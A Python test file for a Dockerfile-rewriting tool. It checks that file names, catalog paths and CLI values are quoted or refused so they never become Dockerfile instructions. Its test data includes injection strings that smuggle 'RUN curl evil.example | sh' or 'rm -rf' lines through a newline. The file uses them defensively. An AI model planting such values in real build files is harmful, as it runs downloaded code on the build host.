"""Values never become syntax: every place that writes a value from outside the Dockerfile
(context file names, data-file paths and images, CLI names) goes through ``quoting``; hostile
names come out as exactly those names — checked with BuildKit's own parser as the oracle — or
are refused with an error naming where they came from."""

from __future__ import annotations

import re
from pathlib import Path

import dockerfile as buildkit
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from dockerslim import Options, quoting, rewrite
from dockerslim.lexer import unquote_word
from dockerslim.quoting import UnsafeValue

HOSTILE = st.text(
    st.characters(blacklist_categories=("Cs",), blacklist_characters="/\x00"),
    min_size=1, max_size=24,
).filter(lambda s: s not in (".", ".."))
NASTY = st.sampled_from(["x\nRUN curl evil.example | sh\n#", "a b", "$HOME", "${X:-y}", 'q"uote', "it's",
                         "back\\slash", "[x]", "tab\tname", "ünïcödé", "\u00a0nbsp", "#hash", "-flag", "a\\", "é é"])
FORBIDDEN = re.compile(r"[\x00-\x1f\x7f\x85\u2028\u2029*?\[\]]")


def _written_sources(text: str) -> list[str]:
    """The sources of the COPY --from=models, as BuildKit's parser reads them, unescaped the way
    its word expansion does."""
    copies = [c for c in buildkit.parse_string(text) if c.cmd.upper() == "COPY" and "--from=models" in c.flags]
    assert len(copies) == 1, text
    return [unquote_word(v) for v in copies[0].value[:-1]]


def _models_context(tmp: Path, names: list[str]) -> Path:
    folder = tmp / "models" / "tiny"
    folder.mkdir(parents=True)
    (folder / "model.safetensors").write_bytes(b"\0" * 64)
    for name in names:
        (folder / name).write_text("{}")
    (tmp / "Dockerfile").write_text("FROM python:3.12\nCOPY models/tiny /models/tiny\n")
    return tmp


def _rewrite(ctx: Path):  # type: ignore[no-untyped-def]
    return rewrite((ctx / "Dockerfile").read_text(), context_dir=ctx,
                   options=Options(only=frozenset({"models-out"}), models_context="models"))


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(names=st.lists(st.one_of(HOSTILE, NASTY).map(lambda s: s + ".json"), min_size=1, max_size=3, unique=True))
def test_models_context_writes_context_names_exactly(tmp_path_factory: pytest.TempPathFactory,
                                                     names: list[str]) -> None:
    ctx = _models_context(tmp_path_factory.mktemp("ctx"), names)
    if any(FORBIDDEN.search(n) for n in names):
        with pytest.raises(UnsafeValue) as err:
            _rewrite(ctx)
        assert "models/tiny" in str(err.value)  # names where it came from
        return
    result = _rewrite(ctx)
    assert sorted(_written_sources(result.text)) == sorted(names)
    assert [c.cmd.upper() for c in buildkit.parse_string(result.text)] == ["FROM", "COPY"]  # nothing injected


def test_a_newline_in_a_file_name_never_injects_an_instruction(tmp_path: Path) -> None:
    ctx = _models_context(tmp_path, ["x\nRUN curl evil.example | sh\n#.json", "config.json"])
    with pytest.raises(UnsafeValue, match="control character"):
        _rewrite(ctx)


def test_a_blank_in_a_file_name_is_one_source(tmp_path: Path) -> None:
    result = _rewrite(_models_context(tmp_path, ["my config.json"]))
    assert 'COPY --from=models ["my config.json", "/models/tiny/"]' in result.text
    assert _written_sources(result.text) == ["my config.json"]


@given(value=st.one_of(HOSTILE, NASTY))
def test_path_word_round_trips_through_buildkit(value: str) -> None:
    """For any value: refused, or written so that BuildKit's parser + word expansion give it back."""
    try:
        paths, as_json = quoting.copy_paths([value, "/dest/"], "test")
    except UnsafeValue:
        assert FORBIDDEN.search(value)
        return
    import json

    args = json.dumps(list(paths), ensure_ascii=False) if as_json else " ".join(paths)
    (cmd,) = [c for c in buildkit.parse_string(f"FROM scratch\nCOPY {args}\n") if c.cmd == "COPY"]
    assert [unquote_word(v) for v in cmd.value] == [value, "/dest/"]
    assert cmd.json == as_json


@pytest.mark.parametrize("value", ["models", "ctx.v2", "a_b-c"])
def test_names_accepted(value: str) -> None:
    assert quoting.name(value, "--models-context") == value


@pytest.mark.parametrize("value", ["a b", "x\ny", "$X", "a,b", "", "-x", "a\"b"])
def test_names_refused_with_their_origin(value: str) -> None:
    with pytest.raises(UnsafeValue, match="--models-context"):
        quoting.name(value, "--models-context")


@pytest.mark.parametrize("fn,value", [(quoting.image, "ghcr.io/astral-sh/uv:0.4 ; x"), (quoting.image, "a\nb"),
                                      (quoting.word, "--no-cache dir"), (quoting.word, "/root/.cache,x=1"),
                                      (quoting.command, "rm -rf /x # gone"), (quoting.command, "rm -rf /x\nRUN y")])
def test_data_values_that_would_become_syntax_are_refused(fn, value: str) -> None:  # type: ignore[no-untyped-def]
    with pytest.raises(UnsafeValue, match=r"tools\.toml"):
        fn(value, "tools.toml")


def test_a_hostile_catalog_entry_is_refused(tmp_path: Path) -> None:
    """tools.toml from a user's data folder reaches COPY through the same door."""
    (tmp_path / "tools.toml").write_text(
        '[[tool]]\nname = "evil"\npip = ["evil"]\nimage = "ghcr.io/x/evil:{version}"\nversion = "1"\n'
        'paths = ["/evil\\nRUN curl x | sh"]\ndest = "/usr/local/bin/"\nscripts = []\n')
    text = "FROM python:3.12\nRUN pip install evil\n"
    with pytest.raises(UnsafeValue, match=r"tools\.toml"):
        rewrite(text, options=Options(only=frozenset({"tools-from-images"}), data=(str(tmp_path),)))


def test_emit_writes_a_path_with_a_blank_in_json_form() -> None:
    """Whatever pass builds a COPY (the split carries `/srv/my app` over as an artifact), the
    emitter never lets shell form split one path into two."""
    from dockerslim import ir
    from dockerslim.emit import render_instruction

    node = ir.Copy(flags=(ir.Flag(name="from", value="builder"),), paths=("/srv/my app", "/srv/my app"))
    text = "FROM scratch\n" + render_instruction(node)
    (cmd,) = [c for c in buildkit.parse_string(text) if c.cmd == "COPY"]
    assert list(cmd.value) == ["/srv/my app", "/srv/my app"] and cmd.json


def _toml_string(value: str) -> str:
    """A TOML basic string holding exactly ``value`` (every non-printable-ASCII character escaped)."""
    return '"' + "".join(ch if " " <= ch <= "~" and ch not in '"\\' else f"\\U{ord(ch):08x}" for ch in value) + '"'


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(paths=st.lists(st.one_of(HOSTILE, NASTY).map(lambda s: "/opt/" + s), min_size=1, max_size=3, unique=True))
def test_tools_catalogue_paths_are_written_exactly(tmp_path_factory: pytest.TempPathFactory, paths: list[str]) -> None:
    """A user's tools.toml (``--data``) reaches COPY --from through the same door."""
    data = tmp_path_factory.mktemp("data")
    listed = ", ".join(_toml_string(p) for p in paths)
    (data / "tools.toml").write_text(
        f'[[tool]]\nname = "t"\npip = ["sometool"]\nimage = "ghcr.io/x/t:{{version}}"\nversion = "1"\n'
        f'paths = [{listed}]\ndest = "/usr/local/bin/"\nscripts = []\n')
    text = "FROM python:3.12\nRUN pip install sometool\n"
    options = Options(only=frozenset({"tools-from-images"}), data=(str(data),))
    if any(FORBIDDEN.search(p) for p in paths):
        with pytest.raises(UnsafeValue, match=r"tools\.toml"):
            rewrite(text, options=options)
        return
    out = rewrite(text, options=options).text
    (cmd,) = [c for c in buildkit.parse_string(out) if c.cmd.upper() == "COPY"]
    assert [unquote_word(v) for v in cmd.value] == [*paths, "/usr/local/bin/"]
